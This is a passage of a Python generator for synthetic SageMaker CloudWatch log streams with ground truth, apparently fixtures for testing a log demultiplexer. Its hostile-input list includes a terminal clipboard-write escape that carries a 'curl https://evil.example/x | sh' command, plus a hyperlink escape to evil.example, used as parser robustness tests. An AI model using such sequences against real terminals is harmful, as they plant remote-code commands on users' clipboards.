#!/usr/bin/env python3
"""Generate the CloudWatch logs of a synthetic SageMaker heterogeneous training job.

The output is an on-disk tree of host log streams, as cwdemux reads them, plus the
ground truth (which host belongs to which instance group) for end-to-end tests and
benchmarks.  Everything is derived from --seed: the same arguments always give the
same bytes, whatever --jobs is.

Stream files (stream name = "<job>/algo-<n>-<epoch-seconds>"):
  --layout export   OUTDIR/<job>/algo-<n>-<epoch>/000000.gz, 000001.gz, ...
                    (CloudWatch's export-to-S3 tree; a new part every --part-events
                    events, an event is never split across parts)
  --layout plain    OUTDIR/<job>/algo-<n>-<epoch>, or ...-<epoch>.gz with --gzip
Each event is written as "<YYYY-MM-DDTHH:MM:SS.mmmZ> <message>\\n" (UTC).  A message
with embedded newlines continues on the following lines, which carry no timestamp;
continuation lines start with whitespace or are empty, as CloudWatch's multi-line
grouping produces them.  Messages are raw bytes and may hold any byte except a
newline outside multi-line events (see --hostile).

Host numbers are shuffled across groups.  Kinds of stream (truth.json lists each
stream's kind under scenario.stream_kinds):
  markers     bash and toolkit start-up, the invocation dump ("Training Env:", the
              JSON from "{" to its last member as one event, "}" alone, then
              "Environment variables:" and the SM_* lines, the command), user output
  mpi-master  the same plus MPI set-up lines, an mpirun command, OpenMPI's job map,
              and user output tagged "[1,mpirank:R,algo-K]<stdout>:" with K derived
              from the rank, so often the wrong host -- as in real jobs
  mpi-worker  start-up and MPI worker lines only (~25 events); the host's group is
              only in other hosts' instance_groups_dict / SM_INSTANCE_GROUPS_DICT
  no-markers  start-up and user output, no dump; absent from every group host list
  restart     the later second stream of --restart HOST, without a dump

--fail HOST: the job fails. HOST runs out of GPU memory about 60% into its output
(a traceback as one multi-line event, then its exception line and the toolkit's
failure report); every other host with user output cascades 4-15 s later, by its
own clock: an NCCL watchdog timeout and a traceback ending in a DistBackendError
(trainers) or a Gloo "Connection closed by peer" error (data hosts), then the
toolkit's failure report and "ExitCode 1".  Output stops there.  --fail-skew MS
shifts HOST's failure by MS (a clock ahead or behind).  truth.json has
scenario.fail: host, group, timestamp and summary of the first failure.
--fail-rank R (with --mpi-workers): MPI rank R runs out of GPU memory instead,
its traceback one tagged line an event in the MPI master's stream, other ranks'
lines between its lines; scenario.fail then also has the rank, and its host is
the one rank R ran on (scenario.mpi_rank_hosts), not the master.

Ground truth:
  OUTDIR/truth.json          job, groups (instance type, hosts), host -> group or
                             "unassigned", stream -> host, event and line totals,
                             and the scenario (MPI master/workers, restarted host, ...)
  OUTDIR/truth.events.jsonl  one object per event, streams in name order, events in
                             stream order: stream, host, group, timestamp (ms) and
                             message_b64; only for jobs of at most 200,000 events
                             unless --events-file is given
  OUTDIR/tsv/<algo-n-epoch>.tsv   with --tsv: "<ms>\\t<message>" per event, with
                             backslash, newline and tab written as \\\\, \\n, \\t
"""

import argparse
import base64
import gzip
import json
import os
import random
import re
import shutil
import sys
import time
from concurrent.futures import ProcessPoolExecutor

DEFAULT_GROUPS = "data_group:ml.c5.18xlarge:2,train_group:ml.p3dn.24xlarge:1"
# Groups used by --hosts; the remainder of N / 3 goes to train_group first, so the
# GPU group is the largest one (and the MPI group under --mpi-workers).
HOSTS_GROUPS = (("data_group", "ml.c5.18xlarge"), ("train_group", "ml.p3dn.24xlarge"),
                ("eval_group", "ml.g5.2xlarge"))
DEFAULT_START_MS = 1717243528407
DEFAULT_LINES = 2000
PART_EVENTS = 20000
EVENTS_FILE_LIMIT = 200000
LATE_MARKER_LINES = 200
HUGE_LINE_BYTES = 1 << 20
HUGE_FILL = b"0123456789abcdef" * (HUGE_LINE_BYTES // 16)
HOSTILE_RATE = 0.02
GZIP_LEVEL = 6
FLUSH_EVENTS = 4096

# Body timestamps: an event shares the previous one's millisecond with probability
# P_SAME_MS, otherwise it comes 1..GAP_MAX ms later.  MEAN_GAP estimates a stream's
# duration before it is written (MPI workers end with their master, restarts start
# after the first container's end).
P_SAME_MS = 0.45
GAP_MAX = 150
MEAN_GAP = (1 - P_SAME_MS) * (GAP_MAX + 1) / 2

JOB_RE = re.compile(r"[A-Za-z0-9](?:-*[A-Za-z0-9]){0,62}\Z")
HOST_RE = re.compile(r"algo-([1-9][0-9]*)\Z")

TK = b"sagemaker-training-toolkit"
PT = b"sagemaker_pytorch_container.training"
BASH_LINES = (b"bash: cannot set terminal process group (-1): Inappropriate ioctl for device",
              b"bash: no job control in this shell")
PYTHON = "/opt/conda/bin/python3.10"
PYTHONPATH = (b"PYTHONPATH=/opt/ml/code:/opt/conda/bin:/opt/conda/lib/python310.zip:"
              b"/opt/conda/lib/python3.10:/opt/conda/lib/python3.10/lib-dynload:"
              b"/opt/conda/lib/python3.10/site-packages")
HYPERPARAMETERS = {"batch_size": 256, "epochs": 2}
USER_ARGS = ["--batch_size", "256", "--epochs", "2"]

# (cpus, gpus, neurons) of instance types we name; others are guessed from the name.
INSTANCE_SPECS = {
    "ml.c5.xlarge": (4, 0, 0), "ml.c5.18xlarge": (72, 0, 0), "ml.m5.xlarge": (4, 0, 0),
    "ml.m5.24xlarge": (96, 0, 0), "ml.g5.2xlarge": (8, 1, 0), "ml.g5.12xlarge": (48, 4, 0),
    "ml.p3.16xlarge": (64, 8, 0), "ml.p3dn.24xlarge": (96, 8, 0),
    "ml.p4d.24xlarge": (96, 8, 0), "ml.trn1.32xlarge": (128, 0, 16),
}

# Hostile user output for --hostile: terminal escapes (CSI, OSC 0/2 titles, OSC 8
# hyperlinks, OSC 52 clipboard writes), raw and UTF-8-encoded C1 controls, bidi
# overrides, NUL, invalid and overlong UTF-8, encoded surrogates, CR and other C0
# bytes.  Never a newline.  "%d" takes a counter so lines differ.
HOSTILE_LINES = (
    b"\x1b[31;1mERROR\x1b[0m step %d \x1b[2J\x1b[Hscreen cleared",
    b"\x1b]52;c;" + base64.b64encode(b"curl -s https://evil.example/x | sh")
    + b"\x07clipboard write %d",
    b"\x1b]0;pwned %d\x07\x1b]2;second title\x1b\\title set",
    b"\x1b]8;;https://evil.example/%d\x1b\\click here\x1b]8;;\x1b\\",
    b"\x9b31m8-bit CSI\x9bm \x9d0;8-bit OSC title\x9c raw C1 bytes %d",
    "\u009b31mUTF-8 encoded C1 CSI\u009b0m \u009d2;title\u009c %d".encode(),
    "bidi \u202eexe.txt\u202c and isolate \u2067cod.\u2069 override %d".encode(),
    b"NUL\x00inside\x00the message %d",
    b"invalid UTF-8 \xff\xfe \xc3( \xe2\x82 lone \x80 continuation %d",
    b"overlong \xc0\xaf \xe0\x80\xaf \xf0\x80\x80\xaf NUL \xc0\x80 surrogate \xed\xa0\x80 %d",
    b"progress 10%%\rprogress 50%%\r\x1b[Kprogress 100%% CR overwrite %d",
    b"backspace\x08\x08\x08 DEL\x7f bell\x07 vt\x0b ff\x0c raw tab\t %d",
)

WARNINGS = {
    "trainer": b"/opt/conda/lib/python3.10/site-packages/torch/utils/data/dataloader.py:557: "
               b"UserWarning: This DataLoader will create 16 worker processes in total. Our "
               b"suggested max number of worker in current system is 12, which is smaller "
               b"than what this DataLoader is going to create.\n"
               b"  warnings.warn(_create_warning_msg(",
    "data": b"/opt/conda/lib/python3.10/site-packages/grpc/_server.py:1012: "
            b"DeprecationWarning: maximum_concurrent_rpcs is deprecated and will be removed "
            b"in a future release.\n  warnings.warn(",
}

PIP_PACKAGES = ("transformers", "datasets", "accelerate", "tokenizers", "safetensors",
                "huggingface-hub", "evaluate", "grpcio", "protobuf", "pyarrow", "fsspec",
                "xxhash", "multiprocess", "dill", "regex", "tqdm", "filelock", "aiohttp")


def cjson(obj):
    """Compact JSON with sorted keys, as the toolkit prints SM_* values."""
    return json.dumps(obj, sort_keys=True, separators=(",", ":"))


def instance_specs(itype):
    """(cpus, gpus, neurons) of an instance type."""
    if itype in INSTANCE_SPECS:
        return INSTANCE_SPECS[itype]
    m = re.search(r"\.([0-9]*)xlarge\Z", itype)
    cpus = 4 * int(m.group(1) or 1) if m else 2
    family = itype[3:] if itype.startswith("ml.") else itype
    if family.startswith(("p", "g")):
        return cpus, max(1, cpus // 12), 0
    if family.startswith(("trn", "inf")):
        return cpus, 0, max(1, cpus // 8)
    return cpus, 0, 0


def host_num(host):
    return int(host[5:])


# ---------------------------------------------------------------------------
# Writing streams


def tsv_escape(msg):
    return msg.replace(b"\\", b"\\\\").replace(b"\n", b"\\n").replace(b"\t", b"\\t")


def _open_out(path, compressed):
    if compressed:
        # mtime=0 keeps the gzip header, and so the output, reproducible.
        return gzip.GzipFile(path, "wb", compresslevel=GZIP_LEVEL, mtime=0)
    return open(path, "wb")


def write_stream(outdir, stream, events, layout, gzip_plain, part_events,
                 tsv=False, jsonl_prefix=None):
    """Write one stream's (timestamp_ms, message) events; return (events, lines).

    jsonl_prefix, when given, is the JSON text '{"stream":...,"host":...,"group":...,'
    of this stream: the stream's truth.events.jsonl records are then written to
    OUTDIR/.events.<stream basename>.part for the caller to concatenate.
    """
    base = os.path.join(outdir, *stream.split("/"))
    os.makedirs(os.path.dirname(base), exist_ok=True)
    if layout == "export":
        os.makedirs(base)
    basename = stream.rsplit("/", 1)[1]
    extras = []
    if tsv:
        os.makedirs(os.path.join(outdir, "tsv"), exist_ok=True)
        tsv_file = open(os.path.join(outdir, "tsv", basename + ".tsv"), "wb")
        extras.append((tsv_file, lambda ts, msg: b"%d\t%s\n" % (ts, tsv_escape(msg))))
    if jsonl_prefix is not None:
        jsonl_file = open(os.path.join(outdir, ".events.%s.part" % basename), "wb")
        prefix = jsonl_prefix.encode()
        extras.append((jsonl_file, lambda ts, msg: b'%s"timestamp":%d,"message_b64":"%s"}\n'
                       % (prefix, ts, base64.b64encode(msg))))

    out = None
    part = 0
    in_part = 0
    buf = []
    n_events = n_lines = 0
    last_sec = None
    prefix_iso = b""
    for ts, msg in events:
        if out is None:
            if layout == "export":
                out = _open_out(os.path.join(base, "%06d.gz" % part), True)
                part += 1
            else:
                out = _open_out(base + ".gz" if gzip_plain else base, gzip_plain)
        sec, ms = divmod(ts, 1000)
        if sec != last_sec:
            last_sec = sec
            prefix_iso = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(sec)).encode()
        buf.append(b"%s.%03dZ %s\n" % (prefix_iso, ms, msg))
        n_events += 1
        n_lines += msg.count(b"\n") + 1
        for f, fmt in extras:
            f.write(fmt(ts, msg))
        in_part += 1
        if layout == "export" and in_part == part_events:
            out.write(b"".join(buf))
            out.close()
            out = None
            buf = []
            in_part = 0
        elif len(buf) >= FLUSH_EVENTS:
            out.write(b"".join(buf))
            buf = []
    if out is not None:
        out.write(b"".join(buf))
        out.close()
    for f, _ in extras:
        f.close()
    return n_events, n_lines


def write_truth(outdir, truth, streams):
    """Write truth.json; join the per-stream event parts into truth.events.jsonl.

    streams is the list of stream names whose parts were written (empty: none).
    """
    with open(os.path.join(outdir, "truth.json"), "w", encoding="utf-8") as f:
        json.dump(truth, f, indent=2, ensure_ascii=False)
        f.write("\n")
    if not streams:
        return
    with open(os.path.join(outdir, "truth.events.jsonl"), "wb") as out:
        for stream in sorted(streams):
            part = os.path.join(outdir, ".events.%s.part" % stream.rsplit("/", 1)[1])
            with open(part, "rb") as f:
                shutil.copyfileobj(f, out)
            os.remove(part)


def truth_prefix(stream, host, group):
    return '{"stream":%s,"host":%s,"group":%s,' % (
        json.dumps(stream), json.dumps(host), json.dumps(group))


# ---------------------------------------------------------------------------
# The job: groups, hosts and what each host learns from resourceconfig.json


class Job:
    """Group layout of the job and the toolkit's view of it.

    groups: [(name, instance type, hosts)] in CreateTrainingJob order, hosts in the
    (shuffled) order resourceconfig.json lists them.  visible: the same lists without
    the --no-markers host, which is what every printed dump shows.
    """

    def __init__(self, name, groups, hidden, mpi):
        self.name = name
        self.groups = groups
        self.hosts = sorted(h for _, _, hs in groups for h in hs)  # lexicographic, as SageMaker
        self.group_of = {h: g for g, _, hs in groups for h in hs}
        self.itype_of = {g: t for g, t, _ in groups}
        self.visible = [(g, t, [h for h in hs if h != hidden]) for g, t, hs in groups]
        self.mpi_group = None
        self.mpi_hosts = []
        self.mpi_ppn = 0
        if mpi:
            # The largest group (first on ties) runs MPI, one process per GPU (or per
            # host); its first listed host is the master.
            g, t, hs = max(self.visible, key=lambda v: len(v[2]))
            if hs:
                self.mpi_group, self.mpi_hosts = g, hs
                self.mpi_ppn = instance_specs(t)[1] or 1

    def data_hosts(self):
        """Hosts of the first CPU-only group, which the trainers connect to."""
        for _, t, hs in self.visible:
            if instance_specs(t)[1:] == (0, 0):
                return hs
        return []

    def trainer_hosts(self):
        """Hosts of accelerated groups, which the data hosts serve."""
        return [h for _, t, hs in self.visible if instance_specs(t)[1:] != (0, 0) for h in hs]

    def style(self, host):
        """User output style: accelerated instances train, CPU instances serve data."""
        itype = self.itype_of[self.group_of[host]]
        return "data" if instance_specs(itype)[1:] == (0, 0) else "trainer"

    def peers(self, host):
        """Other hosts of host's group, as the dumps list them."""
        group = self.group_of[host]
        return [h for g, _, hs in self.visible if g == group for h in hs if h != host]

    def training_env(self, host):
        """The toolkit's Training Env (keys in its alphabetical order) for host."""
        group = self.group_of[host]
        itype = self.itype_of[group]
        cpus, gpus, neurons = instance_specs(itype)
        group_objs = [{"instance_group_name": g, "instance_type": t, "hosts": list(hs)}
                      for g, t, hs in self.visible]
        own_hosts = next(o["hosts"] for o in group_objs if o["instance_group_name"] == group)
        fw_params = {}
        dist_groups = []
        dist_hosts = []
        if self.mpi_group is not None:
            fw_params = {"sagemaker_distribution_instance_groups": [self.mpi_group],
                         "sagemaker_instance_type": self.itype_of[self.mpi_group],
                         "sagemaker_mpi_custom_mpi_options": "",
                         "sagemaker_mpi_enabled": True,
                         "sagemaker_mpi_num_of_processes_per_host": self.mpi_ppn}
            dist_groups = [self.mpi_group]
            dist_hosts = list(self.mpi_hosts)
        master = dist_hosts[0] if dist_hosts else self.hosts[0]
        module_dir = ("s3://sagemaker-us-west-2-111122223333/%s/source/sourcedir.tar.gz"
                      % self.name)
        return {
            "additional_framework_parameters": fw_params,
            "channel_input_dirs": {},
            "current_host": host,
            "current_instance_group": group,
            "current_instance_group_hosts": list(own_hosts),
            "current_instance_type": itype,
            "distribution_hosts": dist_hosts,
            "distribution_instance_groups": dist_groups,
            "framework_module": "sagemaker_pytorch_container.training:main",
            "hosts": list(self.hosts),
            "hyperparameters": dict(HYPERPARAMETERS),
            "input_config_dir": "/opt/ml/input/config",
            "input_data_config": {},
            "input_dir": "/opt/ml/input",
            "instance_groups": [g for g, _, _ in self.groups],
            "instance_groups_dict": {o["instance_group_name"]: o for o in group_objs},
            "is_hetero": len(self.groups) > 1,
            "is_master": host == master,
            "is_modelparallel_enabled": None,
            "is_smddpmprun_installed": False,
            "is_smddprun_installed": True,
            "job_name": self.name,
            "log_level": 20,
            "master_hostname": master,
            "model_dir": "/opt/ml/model",
            "module_dir": module_dir,
            "module_name": "launcher",
            "network_interface_name": "eth0",
            "num_cpus": cpus,
            "num_gpus": gpus,
            "num_neurons": neurons,
            "output_data_dir": "/opt/ml/output/data",
            "output_dir": "/opt/ml/output",
            "output_intermediate_dir": "/opt/ml/output/intermediate",
            # resourceconfig.json in the platform's key order.
            "resource_config": {
                "current_host": host,
                "current_instance_type": itype,
                "current_group_name": group,
                "hosts": list(self.hosts),
                "instance_groups": group_objs,
                "network_interface_name": "eth0",
            },
            "user_entry_point": "launcher.py",
        }


# (SM_ variable, Training Env key) in the toolkit's order; strings print raw,
# everything else as compact sorted JSON.
SM_VARS = (
    ("SM_HOSTS", "hosts"), ("SM_NETWORK_INTERFACE_NAME", "network_interface_name"),
    ("SM_HPS", "hyperparameters"), ("SM_USER_ENTRY_POINT", "user_entry_point"),
    ("SM_FRAMEWORK_PARAMS", "additional_framework_parameters"),
    ("SM_RESOURCE_CONFIG", "resource_config"), ("SM_INPUT_DATA_CONFIG", "input_data_config"),
    ("SM_OUTPUT_DATA_DIR", "output_data_dir"), ("SM_CHANNELS", None),
    ("SM_CURRENT_HOST", "current_host"), ("SM_CURRENT_INSTANCE_TYPE", "current_instance_type"),
    ("SM_CURRENT_INSTANCE_GROUP", "current_instance_group"),
    ("SM_CURRENT_INSTANCE_GROUP_HOSTS", "current_instance_group_hosts"),
    ("SM_INSTANCE_GROUPS", "instance_groups"), ("SM_INSTANCE_GROUPS_DICT", "instance_groups_dict"),
    ("SM_DISTRIBUTION_INSTANCE_GROUPS", "distribution_instance_groups"),
    ("SM_IS_HETERO", "is_hetero"), ("SM_MODULE_NAME", "module_name"),
    ("SM_LOG_LEVEL", "log_level"), ("SM_FRAMEWORK_MODULE", "framework_module"),
    ("SM_INPUT_DIR", "input_dir"), ("SM_INPUT_CONFIG_DIR", "input_config_dir"),
    ("SM_OUTPUT_DIR", "output_dir"), ("SM_NUM_CPUS", "num_cpus"), ("SM_NUM_GPUS", "num_gpus"),
    ("SM_NUM_NEURONS", "num_neurons"), ("SM_MODEL_DIR", "model_dir"),
    ("SM_MODULE_DIR", "module_dir"), ("SM_TRAINING_ENV", None), ("SM_USER_ARGS", None),
    ("SM_OUTPUT_INTERMEDIATE_DIR", "output_intermediate_dir"),
)


def env_var_lines(env):
    """The "Environment variables:" block of the toolkit's invocation dump."""
    special = {"SM_CHANNELS": [], "SM_TRAINING_ENV": env, "SM_USER_ARGS": USER_ARGS}
    lines = []
    for var, key in SM_VARS:
        value = env[key] if key else special[var]
        lines.append("%s=%s" % (var, value if isinstance(value, str) else cjson(value)))
    for name, value in env["hyperparameters"].items():
        lines.append("SM_HP_%s=%s" % (name.upper(), cjson(value)))
    return [line.encode() for line in lines] + [PYTHONPATH]


# ---------------------------------------------------------------------------
# The fixed part of each stream (start-up, markers, MPI set-up), built in full


class Head:
    """Events of a stream's start, with a clock that only moves forward."""

    def __init__(self, t0, rng):
        self.t = t0
        self.rng = rng
        self.events = []

    def add(self, msg, gap=0):
        self.t += gap
        self.events.append((self.t, msg))

    def log(self, msg, gap=0, logger=TK):
        """A Python-logging line; its asctime is 3 ms before the event time."""
        self.t += gap
        sec, ms = divmod(self.t - 3, 1000)
        asctime = time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(sec)).encode()
        self.events.append((self.t, b"%s,%03d %s INFO     %s" % (asctime, ms, logger, msg)))

    def probe(self, gpus, neurons, gap):
        """What one construction of the toolkit's Environment() logs."""
        if gpus == 0:
            self.log(b"No GPUs detected (normal if no gpus installed)", gap)
            gap = 4
        if neurons == 0:
            self.log(b"No Neurons detected (normal if no neurons installed)", gap)

    def startup(self, itype):
        """bash and toolkit lines up to the framework's "Invoking user training script."."""
        _, gpus, neurons = instance_specs(itype)
        for line in BASH_LINES:
            self.add(line)
        self.log(b"Imported framework sagemaker_pytorch_container.training",
                 self.rng.randint(2500, 3500))
        self.probe(gpus, neurons, 3)
        self.log(b"Block until all host DNS lookups succeed.", self.rng.randint(3, 12), PT)
        self.log(b"Invoking user training script.", self.rng.randint(1, 40), PT)

    def probes(self, itype):
        """Environment() is built three more times before the user script runs."""
        _, gpus, neurons = instance_specs(itype)
        for _ in range(3):
            self.probe(gpus, neurons, self.rng.randint(90, 800))

    def pip_install(self, count):
        """count events of requirements.txt installation output (--late-marker)."""
        self.log(b"Installing dependencies from requirements.txt:\n"
                 b"  %s -m pip install -r requirements.txt" % PYTHON.encode(), 5)
        for i in range(count - 2):
            pkg = PIP_PACKAGES[i % len(PIP_PACKAGES)].encode()
            ver = b"%d.%d.%d" % (i // len(PIP_PACKAGES) + 1, self.rng.randint(0, 40),
                                 self.rng.randint(0, 9))
            gap = self.rng.randint(0, 120)
            if i % 3 == 0:
                self.add(b"Requirement already satisfied: %s in "
                         b"/opt/conda/lib/python3.10/site-packages (%s)" % (pkg, ver), gap)
            else:
                # pip's indented "Downloading" line joins the "Collecting" event.
                self.add(b"Collecting %s==%s\n  Downloading %s-%s-py3-none-any.whl (%d.%d MB)"
                         % (pkg, ver, pkg.replace(b"-", b"_"), ver,
                            self.rng.randint(0, 30), self.rng.randint(0, 9)), gap)
        self.add(b"Successfully installed " + b" ".join(
            p.encode() + b"-1.0.0" for p in PIP_PACKAGES), 900)


def mpi_command(job):
    ppn = job.mpi_ppn
    hosts = ",".join("%s:%d" % (h, ppn) for h in job.mpi_hosts) if ppn > 1 \
        else ",".join(job.mpi_hosts)
    exports = " ".join("-x " + var for var, _ in SM_VARS)
    return ("mpirun --host %s -np %d --allow-run-as-root --display-map --tag-output "
            "-mca btl_tcp_if_include eth0 -mca oob_tcp_if_include eth0 "
            "-mca plm_rsh_no_tree_spawn 1 -bind-to socket -map-by slot -mca pml ob1 "
            "-mca btl ^openib -mca orte_abort_on_non_zero_status 1 -x NCCL_MIN_NRINGS=4 "
            "-x NCCL_SOCKET_IFNAME=eth0 -x NCCL_DEBUG=INFO -x LD_LIBRARY_PATH -x PATH "
            "-x LD_PRELOAD=/opt/conda/lib/python3.10/site-packages/gethostname.cpython-310-"
            "x86_64-linux-gnu.so %s -x PYTHONPATH %s -m mpi4py launcher.py %s"
            % (hosts, ppn * len(job.mpi_hosts), exports, PYTHON, " ".join(USER_ARGS)))


def mpi_job_map(job, jobid):
    """OpenMPI's --display-map output: one event, blank and indented lines included."""
    ppn = job.mpi_ppn
    lines = ["Data for JOB [%d,1] offset 0 Total slots allocated %d"
             % (jobid, ppn * len(job.mpi_hosts)), "",
             " ========================   JOB MAP   ========================", ""]
    for i, host in enumerate(job.mpi_hosts):
        lines.append(" Data for node: %s#011Num slots: %d#011Max slots: 0#011Num procs: %d"
                     % (host, ppn, ppn))
        for rank in range(i * ppn, (i + 1) * ppn):
            lines.append(" #011Process OMPI jobid: [%d,1] App: 0 Process rank: %d Bound: N/A"
                         % (jobid, rank))
        lines.append("")
    lines.append(" =============================================================")
    return "\n".join(lines).encode()


def rank_tags(job):
    """The toolkit's rewritten OpenMPI tags, one per rank.  The host label is
    rank // ppn + 1, which names the wrong host whenever the MPI host list is not
    algo-1, algo-2, ... in order -- as in real jobs."""
    ppn = job.mpi_ppn
    return [b"[1,mpirank:%d,algo-%d]<stdout>:" % (r, r // ppn + 1)
            for r in range(ppn * len(job.mpi_hosts))]


def connect_attempts(h, target, tries):
    for _ in range(tries):
        h.log(b"Cannot connect to host %s" % target, h.rng.randint(900, 1100))
        h.log(b"Connection failed with exception: \n [Errno None] Unable to connect to port 22 "
              b"on 10.0.%d.%d" % (h.rng.randint(0, 255), h.rng.randint(1, 254)), 2)
    h.log(b"Can connect to host %s" % target, h.rng.randint(900, 1100))


def marker_head(job, host, t0, rng, late):
    """Start of a host that prints the full invocation dump."""
    group = job.group_of[host]
    itype = job.itype_of[group]
    env = job.training_env(host)
    h = Head(t0, rng)
    h.startup(itype)
    if late:
        h.pip_install(LATE_MARKER_LINES)
    h.probes(itype)
    command = "%s launcher.py %s" % (PYTHON, " ".join(USER_ARGS))
    is_mpi_master = bool(job.mpi_hosts) and host == job.mpi_hosts[0]
    if is_mpi_master:
        ppn = job.mpi_ppn
        h.log(b"Starting MPI run as worker node.", rng.randint(5, 20))
        h.log(b"Creating SSH daemon.", 1)
        h.log(b"Waiting for MPI workers to establish their SSH connections", 3)
        for worker in job.mpi_hosts[1:]:
            connect_attempts(h, worker.encode(), rng.randint(0, 2))
            h.log(b"Worker %s available for communication" % worker.encode(), 1)
        h.log(b"Env Hosts: %s Hosts: %s process_per_hosts: %d num_processes: %d" % (
            repr(job.mpi_hosts).encode(),
            repr(["%s:%d" % (w, ppn) for w in job.mpi_hosts]).encode(),
            ppn, ppn * len(job.mpi_hosts)), 2)
        h.log(b"Network interface name: eth0", 1)
        command = mpi_command(job)
    h.log(b"Invoking user script", rng.randint(5, 20))
    pretty = json.dumps(env, indent=4)
    # The dump arrives as "{" ... last member (one event) and a separate "}".
    for msg in (b"Training Env:", pretty[:pretty.rindex("\n")].encode(), b"}",
                b"Environment variables:", *env_var_lines(env),
                b"Invoking script with the following command:", command.encode()):
        h.add(msg)
    if is_mpi_master:
        h.add(mpi_job_map(job, rng.randint(10000, 65000)), rng.randint(800, 1500))
    tag = rank_tags(job)[0] if is_mpi_master else b""
    h.add(tag + b"env.is_hetero=%s" % (b"True" if env["is_hetero"] else b"False"),
          rng.randint(1500, 2200))
    h.add(tag + b"current_host=%s" % host.encode())
    h.add(tag + b"current_instance_group=%s" % group.encode())
    user_start(h, job, host, tag)
    return h


def user_start(h, job, host, tag=b""):
    """The user launcher's first lines, which name no group."""
    style = job.style(host)
    script = "./train_dnn.py" if style == "trainer" else "./train_data.py"
    h.add(tag + b"Opening process: %s" % repr(["python", script] + USER_ARGS).encode(), 1)
    if style == "data":
        peer = (job.peers(host) or [host])[0]
        h.add(tag + b"[%s] gRPC data service listening on 0.0.0.0:6000 (peer data node: %s)"
              % (host.encode(), peer.encode()), h.rng.randint(1500, 3000))
    elif job.data_hosts():
        h.add(tag + b"Connecting to data services: %s" % repr(
            ["%s:6000" % d for d in job.data_hosts()]).encode(), h.rng.randint(3000, 7000))


def silent_head(job, host, t0, rng):
    """Start of a stream that prints no group marker (dump lost, or a restart)."""
    h = Head(t0, rng)
    itype = job.itype_of[job.group_of[host]]
    h.startup(itype)
    h.probes(itype)
    user_start(h, job, host)
    return h


def worker_head(job, host, t0, rng, end):
    """A whole MPI worker stream; its last lines come when the master finishes (end)."""
    itype = job.itype_of[job.group_of[host]]
    master = job.mpi_hosts[0].encode()
    h = Head(t0, rng)
    h.startup(itype)
    h.probes(itype)
    h.log(b"Starting MPI run as worker node.", rng.randint(5, 20))
    h.log(b"Waiting for MPI Master to create SSH daemon.", 1)
    connect_attempts(h, master, rng.randint(1, 4))
    h.log(b"MPI Master online, creating SSH daemon.", 1)
    h.log(b"Writing environment variables to /etc/environment for the MPI process.", 1)
    h.log(b"Waiting for MPI process to finish.", 5)
    started = time.strftime("%H:%M:%S", time.gmtime(h.t // 1000 + 3)).encode()
    h.log(b"Reporting status for ORTEd process. gone: [psutil.Process(pid=%d, "
          b"status='terminated', started='%s')] alive: []" % (rng.randint(60, 400), started),
          max(end - h.t, 0) + rng.randint(50, 500))
    h.log(b"Orted process exited", 1)
    h.log(b"Begin looking for status file on %s" % host.encode(), 30000 + rng.randint(0, 5))
    h.log(b"MPI training job status file found. Exit gracefully", 1)
    h.log(b"End looking for status file", 0)
    h.log(b"MPI process finished.", 0)
    h.log(b"Reporting training SUCCESS", 2)
    return h


# ---------------------------------------------------------------------------
# User-script output, generated in bulk in the writer processes


def progress_events(total=235, every=12, width=10):
    """tqdm updates joined by the collector's #015 (CR) escape, three per event."""
    blocks = " ▏▎▍▌▋▊▉"
    frames = []
    for n in range(0, total + 1, every):
        f = n / total
        full, part = divmod(int(f * width * 8), 8)
        bar = "█" * full + (blocks[part] if full < width else "")
        rate = 10.0 + (n % 7) / 10
        left = int((total - n) / rate)
        frames.append("%3d%%|%s| %d/%d [%02d:%02d<%02d:%02d, %.2fit/s]" % (
            int(f * 100), bar.ljust(width), n, total, int(n / rate) // 60, int(n / rate) % 60,
            left // 60, left % 60, rate))
    # The toolkit strips each chunk, so the first frame loses its padding.
    return [("#015".join(frames[i:i + 3])).lstrip().encode()
            for i in range(0, len(frames) - 2, 3)]


PROGRESS = progress_events()
# tqdm writes a bar's description again with every state.
SHUFFLING = [b"#015".join(b"Shuffling shards: " + f.lstrip() for f in p.split(b"#015"))
             for p in PROGRESS]


def body_events(spec, seed):
    """Yield spec["body_n"] user-output events after the head's last timestamp."""
    rng = random.Random("%d/%s/body" % (seed, spec["stream"]))
    rand = rng.random
    host = spec["host"].encode()
    style = spec["style"]
    tags = spec["tags"]
    ntags = len(tags)
    hostile = spec["hostile"]
    huge_at = spec["huge_at"]
    consumers = [c.encode() for c in spec["consumers"]] or [b"localhost"]
    warning = WARNINGS[style]
    nprog = len(PROGRESS)
    ts = spec["t"]
    half = spec["body_n"] // 2
    step = 0
    fail = spec.get("fail")
    for i in range(spec["body_n"]):
        r = rand()
        if r >= P_SAME_MS:
            ts += 1 + int((r - P_SAME_MS) / (1 - P_SAME_MS) * GAP_MAX)
        if fail and ts >= fail["at"]:
            break
        r = rand()
        if i == huge_at:
            msg = (b"huge line from %s " % host + HUGE_FILL)[:HUGE_LINE_BYTES]
        elif hostile and r < HOSTILE_RATE:
            msg = HOSTILE_LINES[int(r / HOSTILE_RATE * len(HOSTILE_LINES))] % i
        elif i == 1 or r > 0.9995:
            msg = warning
        elif style == "trainer":
            step += 1
            if r < 0.6:
                msg = b"Epoch %d/2 step %d#011loss=%.4f#011throughput=%.1f img/s" % (
                    1 + (i >= half), step, 2.3 / (1 + step * 0.0004) + r * 0.05,
                    5000.0 + r * 400)
            elif r < 0.8:
                msg = PROGRESS[step % nprog]
            elif r < 0.95:
                msg = b"[%s] step %d lr=%.6f grad_norm=%.3f mem=%.1fGB" % (
                    host, step, 0.001 / (1 + step * 1e-4), 0.5 + r, 20.0 + r * 10)
            else:
                msg = b"Validation step %d: accuracy=%.4f#011top5=%.4f" % (
                    step, 0.9 - 0.5 / (1 + step * 0.001), 0.99 - 0.1 / (1 + step * 0.001))
        else:
            step += 1
            if r < 0.6:
                msg = b"[%s] produced batch %d#011queue_depth=%d#011elapsed=%.2fs" % (
                    host, step * 100, 32 - int(r * 8), (ts - spec["t"]) / 1000)
            elif r < 0.85:
                msg = b"[%s] served %d elements to %s:6000 (%.1f MB/s)" % (
                    host, 256 * step, consumers[step % len(consumers)], 100 + r * 50)
            elif r < 0.95:
                msg = b"[%s] prefetch buffer %d/64#011cpu=%.1f%%" % (host, int(r * 64), r * 90)
            else:
                msg = SHUFFLING[step % nprog]
        if ntags:
            msg = tags[i % ntags] + msg
        yield ts, msg
    if fail and fail["kind"] == "rank":
        for t, msg in rank_failure_events(tags, fail["rank"], max(ts, fail["at"])):
            yield t, msg
    elif fail:
        for t, msg in failure_events(fail["kind"], spec["host"], style,
